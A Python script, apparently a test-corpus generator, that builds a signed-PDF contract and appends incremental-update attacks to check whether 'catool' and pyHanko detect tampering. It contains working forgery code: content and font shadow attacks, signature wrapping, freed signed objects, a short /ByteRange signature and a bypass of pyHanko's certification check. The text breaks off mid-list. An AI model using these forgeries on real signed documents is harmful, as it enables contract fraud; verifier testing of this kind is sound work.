#!/usr/bin/env python3
"""Builds the signed-PDF attack corpus that `catool pdf verify` and pyHanko must both judge.

usage:
  make_corpus.py base OUT.pdf
  make_corpus.py attacks --approval A.pdf --certified C.pdf --p12 SIGNER.p12 \
      --p12-password-file PW --out DIR [--ca CA.pem]

`base` writes the unsigned base document byte by byte (classic xref table, no compression,
no object streams):

  1 catalog (/AcroForm 3 0 R)          8  page 1 content  "Contract total: 100 CNY"
  2 page tree (2 pages, A4)            9  page 2 content  "Page 2" + a clause hidden under 12
  3 AcroForm (one field: amount)       10 text field `amount` (/V (100)) merged with its widget
  4 page 1 (/Resources 7 0 R,          11 the widget's appearance stream ("100")
    /Annots [10 0 R])                  12 /Square annotation on page 2: the overlay
  5 page 2 (/Annots [12 0 R])          13 the overlay's appearance: an opaque white box
  6 font Helvetica (indirect)          14 unreferenced content stream: page 1 with
  7 page 1 /Resources (indirect)          "Contract total: 900000 CNY" (the prepared shadow)

`attacks` writes into DIR, each attack ONE incremental update appended by raw byte writing to
a signed file (new objects + one classic xref section listing exactly the objects the update
defines, plus entry 0 when it frees objects + a trailer with /Prev, /Root, /Size; the earlier
bytes untouched): page content replaced / swapped, shadow hide / replace / hide-and-replace,
redefined and freed signed objects, signature wrapping, catalog JavaScript, an added
annotation, a filled form field. Besides: short_coverage.pdf (a signature made here on the
base whose /ByteRange leaves 200 bytes of its own revision unsigned), the base certified by
pyHanko with P=1, 2, 3 (and attacks on those), and second signatures added by pyHanko.
DIR/manifest.json lists every file:
  {"file", "attack", "expect": "valid"|"invalid", "names", "note", "signatures",
   "pyhanko_verdict", "pyhanko": [one pyhanko_verdict.py line per signature]}
"expect" is the verdict for "signatures", the signature(s) that existed before the attack;
"names" a lowercase phrase the verifier's report should contain ("" when nothing in
particular); "pyhanko_verdict" what pyHanko says for "signatures" (trust root: --ca, or the
self-signed certificate in the PKCS#12, written to DIR/ca.pem). Where the brief left the
verdict to pyHanko, "expect" is pyHanko's verdict and "note" says so; where pyHanko disagrees
with the brief's expectation, "expect" keeps the brief's and "note" says DISAGREEMENT (also
printed on stderr). judge.py runs pyHanko and catool over the corpus.
Every pyHanko disagreement with the expectation of the brief is in "note" and printed.
"""
from __future__ import annotations

import argparse
import hashlib
import io
import json
import re
import sys
from dataclasses import dataclass, field
from pathlib import Path

HERE = Path(__file__).resolve().parent

# ---------------------------------------------------------------------------------------
# Raw PDF writing
# ---------------------------------------------------------------------------------------


def stream_obj(dict_body: bytes, data: bytes) -> bytes:
    """An uncompressed stream object body (without `N 0 obj`)."""
    return (
        b"<< " + dict_body + b" /Length " + str(len(data)).encode() + b" >>\nstream\n"
        + data + b"\nendstream"
    )


def pdf_string(text: str) -> bytes:
    """A literal string (ASCII only here)."""
    esc = text.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
    return b"(" + esc.encode("latin-1") + b")"


def xref_section(entries: dict[int, tuple[int, int, str]]) -> bytes:
    """A classic xref section: `xref`, then one subsection per run of consecutive numbers.
    entries: object number -> (offset or next free, generation, 'n' or 'f')."""
    out = [b"xref\n"]
    nums = sorted(entries)
    i = 0
    while i < len(nums):
        j = i
        while j + 1 < len(nums) and nums[j + 1] == nums[j] + 1:
            j += 1
        out.append(f"{nums[i]} {j - i + 1}\n".encode())
        for n in nums[i : j + 1]:
            off, gen, kind = entries[n]
            out.append(f"{off:010d} {gen:05d} {kind}\r\n".encode())
        i = j + 1
    return b"".join(out)


def page_text(lines: list[tuple[int, int, int, str]]) -> bytes:
    """Content stream drawing `(size, x, y, text)` lines in /F1, black."""
    ops = []
    for size, x, y, text in lines:
        ops.append(b"BT /F1 %d Tf 0 g %d %d Td " % (size, x, y) + pdf_string(text) + b" Tj ET")
    return b"\n".join(ops)


PAGE1_LINES = [
    (24, 72, 760, "Contract total: 100 CNY"),
    (12, 72, 700, "Amount (CNY):"),
    (10, 72, 640, "Signed by the buyer below."),
]
PAGE1_SHADOW_LINES = [
    (24, 72, 760, "Contract total: 900000 CNY"),
    (12, 72, 700, "Amount (CNY):"),
    (10, 72, 640, "Signed by the buyer below."),
]
PAGE2_LINES = [
    (24, 72, 760, "Page 2"),
    (12, 72, 700, "Terms: payment within 30 days."),
    # Hidden by the white /Square overlay (annotation 12, rect 60 640 540 672): the
    # signer sees a blank band; removing the overlay shows the clause.
    (14, 72, 650, "Late fee: 900000 CNY per day of delay."),
]
OVERLAY_RECT = (60, 640, 540, 672)
WIDGET_RECT = (170, 694, 320, 716)
WIDGET_AP = b"/Tx BMC q BT /Helv 12 Tf 0 g 2 6 Td (100) Tj ET Q EMC"


def base_pdf(inherited: bool = False) -> bytes:
    """The unsigned base. With `inherited`, the same document except that neither page has
    /Resources of its own: both inherit /Resources 7 0 R from the page tree node (object 2),
    as ISO 32000 allows and some generators do; font 6 stays shared with the `amount`
    widget's appearance."""
    w, h = WIDGET_RECT[2] - WIDGET_RECT[0], WIDGET_RECT[3] - WIDGET_RECT[1]
    ow, oh = OVERLAY_RECT[2] - OVERLAY_RECT[0], OVERLAY_RECT[3] - OVERLAY_RECT[1]
    rect = lambda r: ("[%d %d %d %d]" % r).encode()  # noqa: E731
    objs: dict[int, bytes] = {
        1: b"<< /Type /Catalog /Pages 2 0 R /AcroForm 3 0 R >>",
        2: b"<< /Type /Pages /Kids [4 0 R 5 0 R] /Count 2 >>",
        3: b"<< /Fields [10 0 R] /DA (/Helv 0 Tf 0 g) /DR << /Font << /Helv 6 0 R >> >> >>",
        4: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources 7 0 R"
        b" /Contents 8 0 R /Annots [10 0 R] >>",
        5: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842]"
        b" /Resources << /Font << /F1 6 0 R >> >> /Contents 9 0 R /Annots [12 0 R] >>",
        6: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        7: b"<< /Font << /F1 6 0 R >> /ProcSet [/PDF /Text] >>",
        8: stream_obj(b"", page_text(PAGE1_LINES)),
        9: stream_obj(b"", page_text(PAGE2_LINES)),
        10: b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (amount) /V (100) /DA (/Helv 12 Tf 0 g)"
        b" /Rect " + rect(WIDGET_RECT) + b" /P 4 0 R /F 4 /MK << /BC [0 0 0] >>"
        b" /AP << /N 11 0 R >> >>",
        11: stream_obj(
            b"/Type /XObject /Subtype /Form /BBox [0 0 %d %d]"
            b" /Resources << /Font << /Helv 6 0 R >> >>" % (w, h),
            WIDGET_AP,
        ),
        12: b"<< /Type /Annot /Subtype /Square /Rect " + rect(OVERLAY_RECT)
        + b" /F 4 /C [1 1 1] /IC [1 1 1] /BS << /W 0 >> /P 5 0 R /NM (overlay)"
        b" /AP << /N 13 0 R >> >>",
        13: stream_obj(
            b"/Type /XObject /Subtype /Form /BBox [0 0 %d %d]" % (ow, oh),
            b"q 1 g 0 0 %d %d re f Q" % (ow, oh),
        ),
        14: stream_obj(b"", page_text(PAGE1_SHADOW_LINES)),
        15: b"<< /Producer (catool attack corpus make_corpus.py) /Title (Attack corpus base) >>",
    }
    if inherited:
        objs[2] = b"<< /Type /Pages /Kids [4 0 R 5 0 R] /Count 2 /Resources 7 0 R >>"
        objs[4] = objs[4].replace(b" /Resources 7 0 R", b"")
        objs[5] = objs[5].replace(b" /Resources << /Font << /F1 6 0 R >> >>", b"")
        assert b"/Resources" not in objs[4] + objs[5]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for num in sorted(objs):
        offsets[num] = len(out)
        out += b"%d 0 obj\n" % num + objs[num] + b"\nendobj\n"
    size = max(objs) + 1
    xref_at = len(out)
    entries = {0: (0, 65535, "f")}
    entries.update({n: (off, 0, "n") for n, off in offsets.items()})
    out += xref_section(entries)
    doc_id = hashlib.md5(bytes(out)).hexdigest().encode()
    out += (
        b"trailer\n<< /Size %d /Root 1 0 R /Info 15 0 R /ID [<%s> <%s>] >>\n"
        b"startxref\n%d\n%%%%EOF\n" % (size, doc_id, doc_id, xref_at)
    )
    return bytes(out)



# ---------------------------------------------------------------------------------------
# Incremental updates on an existing file
# ---------------------------------------------------------------------------------------


def ser(obj) -> bytes:
    """pypdf object (not a stream) -> PDF syntax; indirect references stay `N G R`, strings
    of printable ASCII stay literal strings (pypdf would octal-escape '.', ':', '_' ...)."""
    from pypdf.generic import (
        ArrayObject,
        ByteStringObject,
        DictionaryObject,
        IndirectObject,
        NameObject,
        StreamObject,
        TextStringObject,
    )

    if isinstance(obj, IndirectObject):
        return b"%d %d R" % (obj.idnum, obj.generation)
    if isinstance(obj, StreamObject):
        raise ValueError("streams are written with stream_obj()")
    if isinstance(obj, DictionaryObject):
        return b"<< " + b" ".join(ser(NameObject(k)) + b" " + ser(obj.raw_get(k)) for k in obj) + b" >>"
    if isinstance(obj, ArrayObject):
        return b"[" + b" ".join(ser(x) for x in obj) + b"]"
    if isinstance(obj, (TextStringObject, ByteStringObject)):
        raw = obj.original_bytes if isinstance(obj, TextStringObject) else bytes(obj)
        if all(32 <= b < 127 for b in raw):
            return pdf_string(raw.decode("ascii"))
        return b"<" + raw.hex().upper().encode() + b">"
    buf = io.BytesIO()
    obj.write_to_stream(buf)
    return buf.getvalue()


def ref_num(obj) -> int:
    """Object number of an IndirectObject or of a resolved object read through one."""
    from pypdf.generic import IndirectObject

    if isinstance(obj, IndirectObject):
        return obj.idnum
    return obj.indirect_reference.idnum


class Pdf:
    """The latest revision of a file to append to (read with pypdf, never rewritten)."""

    def __init__(self, data: bytes):
        import pypdf

        self.data = data
        self.reader = pypdf.PdfReader(io.BytesIO(data), strict=False)
        eof = list(re.finditer(rb"startxref\s+(\d+)\s+%%EOF", data))
        if not eof:
            raise SystemExit("no startxref/%%EOF at the end of the input")
        self.prev_startxref = int(eof[-1].group(1))
        t = self.reader.trailer
        self.root_ref = t.raw_get("/Root")
        self.info_ref = t.raw_get("/Info") if "/Info" in t else None
        self.ids = t.get("/ID")
        self.size = int(t["/Size"])

    def obj(self, num: int):
        return self.reader.get_object(num)

    @property
    def root(self):
        return self.reader.trailer["/Root"]

    def page_num(self, index: int) -> int:
        return self.reader.pages[index].indirect_reference.idnum

    def page(self, index: int):
        return self.reader.pages[index]

    def fields(self) -> list[tuple[int, object]]:
        """(object number, field dict) of every top-level AcroForm field."""
        out = []
        for r in self.root["/AcroForm"].get_object().raw_get("/Fields").get_object():
            out.append((ref_num(r), r.get_object()))
        return out

    def field(self, name: str) -> tuple[int, object]:
        for num, f in self.fields():
            if f.get("/T") == name:
                return num, f
        raise SystemExit(f"no field {name!r}")

    def sig_fields(self) -> list[tuple[int, object]]:
        return [(n, f) for n, f in self.fields() if f.get("/FT") == "/Sig" and "/V" in f]

    def contents_num(self, page_index: int) -> int:
        c = self.page(page_index).raw_get("/Contents")
        if not hasattr(c, "idnum"):
            raise SystemExit(f"page {page_index + 1} /Contents is not a single indirect stream")
        return c.idnum


def dict_with(d, changes: dict[str, bytes | None]) -> bytes:
    """`d` (a pypdf dictionary) re-serialized with some entries replaced (raw PDF syntax),
    added, or removed (None); the other values are copied as they are (references stay
    references)."""
    from pypdf.generic import NameObject

    parts = []
    for k in d.keys():
        if k in changes:
            continue
        parts.append(ser(NameObject(k)) + b" " + ser(d.raw_get(k)))
    for k, v in changes.items():
        if v is not None:
            parts.append(k.encode() + b" " + v)
    return b"<< " + b"\n   ".join(parts) + b" >>"


def array_with(arr, extra: list[bytes]) -> bytes:
    return b"[" + b" ".join([ser(x) for x in arr] + extra) + b"]"


class Update:
    """One incremental update: new objects and redefinitions, one classic xref section that
    lists exactly them (plus entry 0 when the update frees objects, as the free list head),
    a trailer with /Prev; the previous bytes are kept as they are."""

    def __init__(self, pdf: Pdf):
        self.pdf = pdf
        self.objs: dict[int, bytes] = {}
        self.freed: list[int] = []
        self.next_num = pdf.size
        self.late: dict[int, bytes] = {}  # written after the trailer (short_coverage)
        self.info: bytes | None = None  # a new trailer /Info value (default: the previous one)

    def new(self, body: bytes) -> int:
        num = self.next_num
        self.next_num += 1
        self.objs[num] = body
        return num

    def redefine(self, num: int, body: bytes) -> None:
        self.objs[num] = body

    def free(self, num: int) -> None:
        self.freed.append(num)

    def bytes(self) -> bytes:
        out = bytearray(self.pdf.data)
        if not out.endswith(b"\n"):
            out += b"\n"
        entries: dict[int, tuple[int, int, str]] = {}
        for num in sorted(self.objs):
            entries[num] = (len(out), 0, "n")
            out += b"%d 0 obj\n" % num + self.objs[num] + b"\nendobj\n"
        if self.freed:
            chain = sorted(self.freed)
            entries[0] = (chain[0], 65535, "f")
            for i, num in enumerate(chain):
                nxt = chain[i + 1] if i + 1 < len(chain) else 0
                entries[num] = (nxt, 1, "f")
        # Objects placed after the trailer get their offsets now (their length is known).
        late_blob = bytearray()
        late_offsets = {}
        xref_at = len(out)
        # Lay out xref + trailer first with placeholder offsets of the same width.
        for num in self.late:
            entries[num] = (0, 0, "n")
        trailer = self._trailer()
        xref_len = len(xref_section(entries)) + len(trailer)
        for num, body in self.late.items():
            late_offsets[num] = xref_at + xref_len + len(late_blob)
            late_blob += b"%d 0 obj\n" % num + body + b"\nendobj\n"
            entries[num] = (late_offsets[num], 0, "n")
        out += xref_section(entries) + trailer + late_blob
        out += b"startxref\n%d\n%%%%EOF\n" % xref_at
        return bytes(out)

    def _trailer(self) -> bytes:
        p = self.pdf
        size = max([self.next_num, p.size] + [n + 1 for n in self.objs] + [n + 1 for n in self.late])
        t = b"trailer\n<< /Size %d /Root %s" % (size, ser(p.root_ref))
        if self.info is not None:
            t += b" /Info " + self.info
        elif p.info_ref is not None:
            t += b" /Info " + ser(p.info_ref)
        if p.ids is not None:
            t += b" /ID " + ser(p.ids)
        return t + b" /Prev %d >>\n" % p.prev_startxref


# ---------------------------------------------------------------------------------------
# The attacks (each returns the new file's bytes)
# ---------------------------------------------------------------------------------------

SHADOW_CONTENT_OBJ = 14  # the base's unreferenced, prepared page-1 content


def attack_replace_page1_content(data: bytes) -> bytes:
    pdf = Pdf(data)
    u = Update(pdf)
    u.redefine(pdf.contents_num(0), stream_obj(b"", page_text(PAGE1_SHADOW_LINES)))
    return u.bytes()


def attack_swap_page1_contents(data: bytes) -> bytes:
    pdf = Pdf(data)
    u = Update(pdf)
    new = u.new(stream_obj(b"", page_text(PAGE1_SHADOW_LINES)))
    u.redefine(pdf.page_num(0), dict_with(pdf.page(0), {"/Contents": b"%d 0 R" % new}))
    return u.bytes()


def overlay_ap_num(pdf: Pdf) -> int:
    for a in pdf.page(1)["/Annots"]:
        a = a.get_object()
        if a.get("/Subtype") == "/Square":
            return ref_num(a["/AP"].raw_get("/N"))
    raise SystemExit("no /Square overlay on page 2")


def attack_shadow_hide(data: bytes) -> bytes:
    pdf = Pdf(data)
    num = overlay_ap_num(pdf)
    old = pdf.obj(num)
    u = Update(pdf)
    u.redefine(
        num,
        b"<< /Type /XObject /Subtype /Form /BBox " + ser(old["/BBox"]) + b" /Length 0 >>\n"
        b"stream\n\nendstream",
    )
    return u.bytes()


def font_num(pdf: Pdf) -> int:
    return ref_num(pdf.page(0)["/Resources"]["/Font"].raw_get("/F1"))


# '1' (code 49) drawn with the glyph of '9': "100 CNY" reads "900 CNY", on the page and in the
# `amount` widget, with not one content stream changed.
FONT_DIFFERENCES = b"<< /Type /Encoding /BaseEncoding /WinAnsiEncoding /Differences [49 /nine] >>"


def attack_shadow_replace(data: bytes) -> bytes:
    pdf = Pdf(data)
    num = font_num(pdf)
    u = Update(pdf)
    u.redefine(num, dict_with(pdf.obj(num), {"/Encoding": FONT_DIFFERENCES}))
    return u.bytes()


def attack_shadow_hide_and_replace(data: bytes) -> bytes:
    pdf = Pdf(data)
    shadow = pdf.obj(SHADOW_CONTENT_OBJ)
    if b"900000" not in shadow.get_data():
        raise SystemExit(f"object {SHADOW_CONTENT_OBJ} is not the prepared shadow content")
    u = Update(pdf)
    u.redefine(
        pdf.page_num(0), dict_with(pdf.page(0), {"/Contents": b"%d 0 R" % SHADOW_CONTENT_OBJ})
    )
    return u.bytes()


def attack_redefine_resources(data: bytes) -> bytes:
    """Page 1's own indirect /Resources (object 7) redefined: /F1 is now a new font object
    (Courier, '1' drawn as '9')."""
    pdf = Pdf(data)
    res = pdf.page(0).raw_get("/Resources")
    if not hasattr(res, "idnum"):
        raise SystemExit("page 1 /Resources is not indirect")
    u = Update(pdf)
    font = u.new(
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Courier /Encoding " + FONT_DIFFERENCES + b" >>"
    )
    u.redefine(
        res.idnum,
        dict_with(res.get_object(), {"/Font": b"<< /F1 %d 0 R >>" % font}),
    )
    return u.bytes()


def attack_free_page1_content(data: bytes) -> bytes:
    pdf = Pdf(data)
    u = Update(pdf)
    u.free(pdf.contents_num(0))
    return u.bytes()


def attack_signature_wrapping(data: bytes) -> bytes:
    pdf = Pdf(data)
    (num, field), *_ = pdf.sig_fields()
    sig = field["/V"]
    br = [int(x) for x in sig["/ByteRange"]]
    contents_raw = data[br[1] : br[2]]  # `<hex>` exactly as signed around
    if not (contents_raw.startswith(b"<") and contents_raw.endswith(b">")):
        raise SystemExit("the byte range gap is not the /Contents hex string")
    br_raw = re.search(rb"/ByteRange\s*\[[^\]]*\]", data[: br[1]][-2000:]).group(0)
    u = Update(pdf)
    keep = {k: ser(sig.raw_get(k)) for k in ("/Type", "/Filter", "/SubFilter", "/M") if k in sig}
    body = b"<< " + b" ".join(k.encode() + b" " + v for k, v in keep.items())
    body += b" /Reason (wrapped) " + br_raw + b" /Contents " + contents_raw + b" >>"
    new = u.new(body)
    u.redefine(num, dict_with(field, {"/V": b"%d 0 R" % new}))
    return u.bytes()


def attack_catalog_js(data: bytes) -> bytes:
    pdf = Pdf(data)
    u = Update(pdf)
    js = b"<< /S /JavaScript /JS (app.alert\\('Contract total: 900000 CNY'\\);) >>"
    u.redefine(ref_num(pdf.root_ref), dict_with(pdf.root, {"/OpenAction": js}))
    return u.bytes()


def attack_add_annotation(data: bytes) -> bytes:
    """A /FreeText annotation on page 1 ("Amended: 900000 CNY", red), with its appearance."""
    pdf = Pdf(data)
    u = Update(pdf)
    rect = (330, 750, 560, 780)
    w, h = rect[2] - rect[0], rect[3] - rect[1]
    ap = u.new(
        stream_obj(
            b"/Type /XObject /Subtype /Form /BBox [0 0 %d %d] /Resources << /Font << /Helv %d 0 R >> >>"
            % (w, h, font_num(pdf)),
            b"q 1 0 0 rg BT /Helv 14 Tf 4 9 Td (Amended: 900000 CNY) Tj ET Q",
        )
    )
    annot = u.new(
        b"<< /Type /Annot /Subtype /FreeText /Rect [%d %d %d %d] /Contents (Amended: 900000 CNY)"
        b" /DA (/Helv 14 Tf 1 0 0 rg) /F 4 /P %d 0 R /NM (amended) /M (D:20260101000000Z)"
        b" /AP << /N %d 0 R >> >>" % (*rect, pdf.page_num(0), ap)
    )
    page = pdf.page(0)
    annots = page.raw_get("/Annots")
    if hasattr(annots, "idnum"):  # an indirect /Annots array: redefine the array
        u.redefine(annots.idnum, array_with(annots.get_object(), [b"%d 0 R" % annot]))
    else:
        u.redefine(
            pdf.page_num(0), dict_with(page, {"/Annots": array_with(annots, [b"%d 0 R" % annot])})
        )
    return u.bytes()


def attack_form_fill(data: bytes, value: str = "900000") -> bytes:
    """Field `amount`: /V (900000) and a new appearance stream (what a form filler writes)."""
    pdf = Pdf(data)
    num, field = pdf.field("amount")
    old_ap = field["/AP"]["/N"]
    u = Update(pdf)
    ap = u.new(
        stream_obj(
            b"/Type /XObject /Subtype /Form /BBox " + ser(old_ap["/BBox"])
            + b" /Resources " + ser(old_ap.raw_get("/Resources")),
            b"/Tx BMC q BT /Helv 12 Tf 0 g 2 6 Td " + pdf_string(value) + b" Tj ET Q EMC",
        )
    )
    u.redefine(num, dict_with(field, {"/V": pdf_string(value), "/AP": b"<< /N %d 0 R >>" % ap}))
    return u.bytes()


def load_p12(p12: Path, password_file: Path):
    from cryptography.hazmat.primitives.serialization import pkcs12

    password = password_file.read_bytes().strip()
    key, cert, extra = pkcs12.load_key_and_certificates(p12.read_bytes(), password)
    if key is None or cert is None:
        raise SystemExit(f"{p12}: no key or certificate")
    return key, cert, list(extra or []), password


SIG_RESERVED = 8192  # bytes of CMS room in /Contents (hex: twice that)
BR_WIDTH = 48


def attack_short_coverage(base: bytes, key, cert, extra_certs, gap: int = 200) -> bytes:
    """Starting from the unsigned base: a signature field + signature dictionary whose
    /ByteRange second range stops `gap` bytes before its revision's %%EOF line; the CMS
    (adbe.pkcs7.detached, SHA-256, made here with `cryptography`) is genuine over exactly those
    ranges. The update rewrites the Info dictionary after the trailer (a harmless object the
    signed xref table points at): the unsigned tail holds most of it and the startxref line,
    so anyone can change the document title, or the startxref, without breaking the CMS."""
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.serialization import pkcs7

    pdf = Pdf(base)
    u = Update(pdf)
    sig = u.new(
        b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached"
        b" /ByteRange [" + b" " * BR_WIDTH + b"] /M (D:20260101000000Z) /Reason (short coverage)"
        b" /Contents <" + b"0" * (2 * SIG_RESERVED) + b"> >>"
    )
    page = pdf.page(0)
    fld = u.new(
        b"<< /FT /Sig /T (ShortCoverage) /V %d 0 R /Type /Annot /Subtype /Widget /F 132"
        b" /Rect [0 0 0 0] /P %d 0 R >>" % (sig, pdf.page_num(0))
    )
    u.redefine(
        pdf.page_num(0),
        dict_with(page, {"/Annots": array_with(page.get("/Annots", []), [b"%d 0 R" % fld])}),
    )
    form_ref = pdf.root.raw_get("/AcroForm")
    form = form_ref.get_object()
    u.redefine(
        ref_num(form_ref),
        dict_with(form, {"/Fields": array_with(form["/Fields"], [b"%d 0 R" % fld]), "/SigFlags": b"3"}),
    )
    info_num = ref_num(pdf.info_ref)
    info = pdf.obj(info_num)
    title = "Contract - this Info dictionary and the startxref line are outside the signature"
    u.late[info_num] = dict_with(
        info,
        {"/Title": pdf_string(title), "/Keywords": pdf_string("unsigned " + "." * (gap + 20))},
    )
    data = bytearray(u.bytes())

    placeholder = b"<" + b"0" * (2 * SIG_RESERVED) + b">"
    l1 = data.index(placeholder)
    start2 = l1 + len(placeholder)
    eof_line = data.rindex(b"%%EOF")
    end2 = eof_line - gap
    info_at = data.rindex(b"\n%d 0 obj" % info_num) + 1
    assert info_at < end2 < eof_line, "the gap must fall in the late Info object + startxref"
    byte_range = b"0 %d %d %d" % (l1, start2, end2 - start2)
    br_at = data.index(b"/ByteRange [" + b" " * BR_WIDTH + b"]") + len(b"/ByteRange [")
    data[br_at : br_at + BR_WIDTH] = byte_range.ljust(BR_WIDTH)

    signed = bytes(data[:l1]) + bytes(data[start2:end2])
    builder = pkcs7.PKCS7SignatureBuilder().set_data(signed).add_signer(cert, key, hashes.SHA256())
    for c in extra_certs:
        builder = builder.add_certificate(c)
    cms = builder.sign(
        serialization.Encoding.DER,
        [pkcs7.PKCS7Options.DetachedSignature, pkcs7.PKCS7Options.Binary],
    )
    hexed = cms.hex().upper().encode()
    assert len(hexed) <= 2 * SIG_RESERVED
    data[l1 + 1 : l1 + 1 + len(hexed)] = hexed
    return bytes(data)


def pyhanko_sign(
    data: bytes, p12: Path, password: bytes, field: str, certify=False, perm=None,
    ignore_docmdp=False,
) -> bytes:
    """Signs `data` with pyHanko (PAdES B-B, SHA-256, invisible field `field`). With
    ignore_docmdp, pyHanko's own refusal to sign a P=1 document is switched off (it raises
    "Author signature forbids all changes"): the attacker's tool would not ask."""
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
    from pyhanko.sign import signers
    from pyhanko.sign.fields import MDPPerm, SigSeedSubFilter
    from pyhanko.sign.signers import pdf_signer

    signer = signers.SimpleSigner.load_pkcs12(str(p12), passphrase=password)
    if signer is None:
        raise SystemExit(f"pyHanko cannot load {p12}")
    meta = signers.PdfSignatureMetadata(
        field_name=field,
        subfilter=SigSeedSubFilter.PADES,
        md_algorithm="sha256",
        certify=certify,
        docmdp_permissions=perm if perm is not None else MDPPerm.FILL_FORMS,
    )
    original = pdf_signer.PdfSigner._enforce_certification_constraints
    if ignore_docmdp:
        pdf_signer.PdfSigner._enforce_certification_constraints = lambda self, reader: None
    try:
        writer = IncrementalPdfFileWriter(io.BytesIO(data))
        out = io.BytesIO()
        signers.sign_pdf(writer, meta, signer=signer, output=out)
    finally:
        pdf_signer.PdfSigner._enforce_certification_constraints = original
    return out.getvalue()


# ---------------------------------------------------------------------------------------
# The corpus
# ---------------------------------------------------------------------------------------

PYHANKO = "pyhanko"  # "expect" placeholder: take pyHanko's verdict and say so in the note


@dataclass
class Case:
    file: str
    attack: str
    expect: str  # "valid" | "invalid" | PYHANKO
    names: str
    note: str
    data: bytes
    judged: list[str] | None = None  # fields `expect` is about (default: the first one)
    pyhanko: list[dict] = field(default_factory=list)
    pyhanko_verdict: str | None = None


def build_cases(args) -> list[Case]:
    from pyhanko.sign.fields import MDPPerm

    a = Path(args.approval).read_bytes()
    c = Path(args.certified).read_bytes()
    key, cert, extra, password = load_p12(Path(args.p12), Path(args.p12_password_file))
    base = base_pdf()
    sig_a = Pdf(a).sig_fields()[0][1].get("/T")
    sig_c = Pdf(c).sig_fields()[0][1].get("/T")

    cases = [
        Case("approval.pdf", "approval", "valid", "",
             "control: catool approval signature (A.pdf as given), unchanged", a, [sig_a]),
        Case("certified.pdf", "certified",
             "valid", "", "control: catool certification signature, DocMDP P=2 (C.pdf as given), unchanged", c, [sig_c]),
        Case("page_content_replaced_approval.pdf", "page_content_replaced_approval", "invalid",
             "page 1", "page 1's content stream object redefined (same number): "
             "'Contract total: 900000 CNY'", attack_replace_page1_content(a), [sig_a]),
        Case("page_contents_swapped_approval.pdf", "page_contents_swapped_approval", "invalid",
             "page 1", "new content stream; page 1's page dictionary redefined with /Contents "
             "pointing at it", attack_swap_page1_contents(a), [sig_a]),
        Case("page_content_replaced_certified.pdf", "page_content_replaced_certified", "invalid",
             "page 1", "as page_content_replaced_approval, on the certified file (P=2)",
             attack_replace_page1_content(c), [sig_c]),
        Case("short_coverage.pdf", "short_coverage", "invalid", "revision",
             "signature made here on the base (cryptography PKCS7SignatureBuilder, "
             "adbe.pkcs7.detached, SHA-256, genuine CMS); its /ByteRange stops 200 bytes before "
             "its revision's %%EOF line: the unsigned tail is most of a rewritten Info "
             "dictionary (placed after the trailer, listed in the signed xref) and the "
             "startxref line", attack_short_coverage(base, key, cert, extra), ["ShortCoverage"]),
        Case("shadow_hide.pdf", "shadow_hide", "invalid", "page 2",
             "the page-2 /Square overlay's appearance stream (existing object) redefined as an "
             "empty stream: the clause 'Late fee: 900000 CNY per day of delay.' under it shows",
             attack_shadow_hide(a), [sig_a]),
        Case("shadow_replace.pdf", "shadow_replace", "invalid", "font",
             "the Helvetica font object (existing, shared by both pages and the amount widget) "
             "redefined with /Differences [49 /nine]: every '1' is drawn as '9' "
             "('Contract total: 900 CNY'); no content stream changes", attack_shadow_replace(a),
             [sig_a]),
        Case("shadow_hide_and_replace.pdf", "shadow_hide_and_replace", "invalid", "page 1",
             f"page 1's page dictionary redefined: /Contents {SHADOW_CONTENT_OBJ} 0 R, the "
             "prepared content stream the signed base carried unreferenced",
             attack_shadow_hide_and_replace(a), [sig_a]),
        Case("xref_redefines_signed_object.pdf", "xref_redefines_signed_object", "invalid",
             "page 1", "page 1's own indirect /Resources dictionary (signed object 7) redefined: "
             "/F1 is now a new Courier font object drawing '1' as '9'",
             attack_redefine_resources(a), [sig_a]),
        Case("xref_frees_signed_object.pdf", "xref_frees_signed_object", "invalid", "page 1",
             "the update has no objects: its xref marks page 1's content stream object free "
             "('f', generation 1; entry 0 heads the free list): page 1 is blank for qpdf and "
             "pyHanko (poppler, seeing a reference to a free object, rebuilds the xref by "
             "scanning and shows the old text)",
             attack_free_page1_content(a), [sig_a]),
        Case("signature_wrapping.pdf", "signature_wrapping", "invalid", "",
             "the signature field redefined: /V points at a NEW signature dictionary carrying "
             "the original /ByteRange and /Contents verbatim (the old CMS still matches the old "
             "ranges, which cover only revision 1+2, not the new dictionary)",
             attack_signature_wrapping(a), [sig_a]),
        Case("catalog_openaction_js.pdf", "catalog_openaction_js", "invalid", "catalog",
             "catalog redefined with /OpenAction << /S /JavaScript /JS (app.alert(...)) >>",
             attack_catalog_js(a), [sig_a]),
        Case("annotation_added_approval.pdf", "annotation_added_approval", PYHANKO, "annotation",
             "a new /FreeText annotation ('Amended: 900000 CNY', with appearance) on page 1; "
             "page 1 redefined with the longer /Annots", attack_add_annotation(a), [sig_a]),
        Case("form_fill_approval.pdf", "form_fill_approval", PYHANKO, "amount",
             "field amount: /V (900000) and a new appearance stream (field object redefined)",
             attack_form_fill(a), [sig_a]),
    ]

    certified = {}
    for p, perm in ((1, MDPPerm.NO_CHANGES), (2, MDPPerm.FILL_FORMS), (3, MDPPerm.ANNOTATE)):
        certified[p] = pyhanko_sign(base, Path(args.p12), password, "Certification",
                                    certify=True, perm=perm)
        cases.append(Case(f"certified_pyhanko_p{p}.pdf", f"certified_pyhanko_p{p}",
                          "valid", "", f"the base certified by pyHanko, DocMDP P={p}",
                          certified[p], ["Certification"]))
    cases += [
        Case("form_fill_p1.pdf", "form_fill_p1", "invalid", "amount",
             "field amount filled (as form_fill_approval) on the P=1 certified file",
             attack_form_fill(certified[1]), ["Certification"]),
        Case("form_fill_p2.pdf", "form_fill_p2", "valid", "",
             "field amount filled (as form_fill_approval) on the P=2 certified file",
             attack_form_fill(certified[2]), ["Certification"]),
        Case("annotation_p2.pdf", "annotation_p2", "invalid", "annotation",
             "FreeText annotation added (as annotation_added_approval) on the P=2 certified file",
